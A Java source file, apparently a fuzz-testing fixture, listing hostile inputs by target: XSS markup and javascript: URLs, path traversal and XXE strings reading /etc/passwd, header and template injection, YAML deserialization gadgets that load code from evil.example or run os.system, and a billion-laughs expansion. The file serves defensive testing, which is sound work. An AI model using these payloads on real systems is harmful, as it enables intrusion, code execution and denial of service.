package dk.vejviser.fuzz;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** What somebody who means harm writes, by where it is meant to strike. */
final class Hostile {
  private Hostile() {}

  /** Runs in a browser where it is not escaped. */
  static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<math><mtext><script>alert(1)</script></mtext></math>",
          "</title><script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "</textarea></noscript></template></style><script>alert(1)</script>",
          "<!--<script>alert(1)</script>-->",
          "--><script>alert(1)</script>",
          "--!><img src=x onerror=alert(1)>",
          "]]><script>alert(1)</script><![CDATA[",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
          "\"><script>alert(1)</script>",
          "' onmouseover='alert(1)' x='",
          "\" onfocus=\"alert(1)\" autofocus=\"",
          "` onclick=alert(1) `",
          "<p style=\"background:url(javascript:alert(1))\">",
          "<iframe srcdoc=\"<script>alert(1)</script>\">",
          "<base href=\"https://evil.example/\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
          "<form action=javascript:alert(1)><button>",
          "<a href=javascript:alert(1)>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
          "\\u003cscript\\u003ealert(1)",
          "<\u017fcript>alert(1)</\u017fcript>",
          "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
          "{{ 7 * 7 }}{% include \"page/guide.peb\" %}{{ page.class }}",
          "${7*7}#{7*7}<%= 7*7 %>",
          "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>");

  /** Leads where no link of ours leads. */
  static final List<String> ADDRESSES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "\u0001javascript:alert(1)",
          "&#106;avascript:alert(1)",
          "javascript&colon;alert(1)",
          "java&Tab;script:alert(1)",
          "%6aavascript:alert(1)",
          "vbscript:msgbox(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "//evil.example/x.js",
          "/\\evil.example",
          "\\\\evil.example\\x",
          "https:evil.example",
          "https://evil.example/\"onclick=alert(1)",
          "https://user:pass@evil.example/",
          "https://evil.example/<script>",
          "file:///etc/passwd",
          "blob:https://evil.example/x",
          "../../../../../../etc/passwd",
          "..%2f..%2f..%2fetc%2fpasswd",
          "../images/../../../../etc/passwd",
          "/etc/passwd\u0000.png",
          "#\"><img src=x onerror=alert(1)>",
          "mailto:a@b.example?subject=\"onclick=\"alert(1)",
          "tel:\"onclick=\"alert(1)",
          "http://[::1",
          "https://%",
          "?",
          "");

  /** Letters that turn text round, end it, count wrongly or are none. */
  static final List<String> LETTERS =
      List.of(
          "\u0000",
          "\u0001\u0007\u0008\u000b\u001b[2J",
          "\u0085\u009b31m",
          "\u2028\u2029",
          "\u202e\u2066\u2067\u202d",
          "\u200b\u200d\u200e\ufeff",
          "\ufffe\uffff\ufdd0",
          "\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
          "\udbff\udfff",
          "a" + "\u0301".repeat(300),
          "\u0130\u0131\u1e9e\ufb03\u212a",
          "\r",
          "\r\n",
          "\t",
          "\f",
          "\u00a0",
          "\u00ad");

  /** Keeps a parser of Markdown busy, or makes it look back. */
  static final List<String> MARKS =
      Stream.concat(
              Stream.of(
                      "[", "![", "*a **a ", "_", "`", "<", "> ", "- ", "1. ", "|a", "\\", "&", "{",
                      "}")
                  .flatMap(mark -> Stream.of(3, 60, 400).map(mark::repeat)),
              Stream.of(
                  "\n===\n",
                  "\n---\n",
                  "\n***\n",
                  "\n# ",
                  "\n## ",
                  "\n####### ",
                  "\n```\n",
                  "\n~~~\n",
                  "\n    ",
                  "\n| a | b |\n| - | - |\n| c |\n",
                  "\n[a]: /x/ \"t\n\n",
                  "[a][a]",
                  "[^1]",
                  "[a](",
                  "](/x/)",
                  "**",
                  "  \n",
                  "{.unsure}",
                  "{.receipt}",
                  "{#id}",
                  "{#id .risk onclick=alert(1)}",
                  "{{kontakt:linjen}}",
                  "{{kontakt:linjen|navn}}",
                  "{{frist:treogtyve}}",
                  "{{fakta:",
                  "{{kontakt:<script>}}",
                  "}}",
                  "{{",
                  "x".repeat(30_000),
                  "x ".repeat(5000)))
          .toList();

  /** Makes classes, copies or depth of a parser of YAML, or another type than is asked for. */
  static final List<String> YAML = yaml();

  private static List<String> yaml() {
    List<String> yaml = new ArrayList<>();
    yaml.addAll(
        List.of(
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"https://evil.example/\"]]]]",
            "!!python/object/apply:os.system [\"id\"]",
            "!!binary aGVq",
            "!!set {a, b}",
            "!<tag:evil.example,2026:x> a",
            "!local a",
            "&a [*a]",
            "&a {b: *a}",
            "*nobody",
            "{<<: {title: other}}",
            "{<<: [*a, *b]}",
            "{? [complex]: x}",
            "{? {a: b}: {c: d}}",
            "{a: b, a: c}",
            "|\n  block\n   more\n",
            ">-\n  folded\n",
            "|9\n  x",
            "\"never closed",
            "'",
            "\"\\x00\\e[2J\\u202e\\ud800\"",
            "\"</script><script>alert(1)</script>\"",
            "\"\\\"><img src=x onerror=alert(1)>\"",
            "\"\\n---\\nlayout: evil\"",
            "%YAML 9.9",
            "\n---\n",
            "\n...\n",
            "@x",
            "`x`",
            "\tx",
            "0x7fffffff",
            "99999999999999999999999999",
            "-1",
            "1e999",
            ".inf",
            ".NaN",
            "2026-13-45",
            "0000-00-00",
            "+999999999-12-31",
            "2026-11-01T00:00:00Z",
            "null",
            "~",
            "yes",
            "\"\"",
            "[]",
            "{}",
            "[[[]]]",
            "x".repeat(100_000)));
    for (int depth : new int[] {10, 25, 2000}) {
      yaml.add("[".repeat(depth) + "]".repeat(depth));
      yaml.add("{a: ".repeat(depth) + "b" + "}".repeat(depth));
    }
    StringBuilder laughs = new StringBuilder("\na: &a [x, x, x, x, x, x, x, x, x]\n");
    for (char c = 'b'; c < 'k'; c++) {
      String before = ("*" + (char) (c - 1) + ", ").repeat(8) + "*" + (char) (c - 1);
      laughs.append(c).append(": &").append(c).append(" [").append(before).append("]\n");
    }
    yaml.add(laughs.toString());
    return List.copyOf(yaml);
  }
}
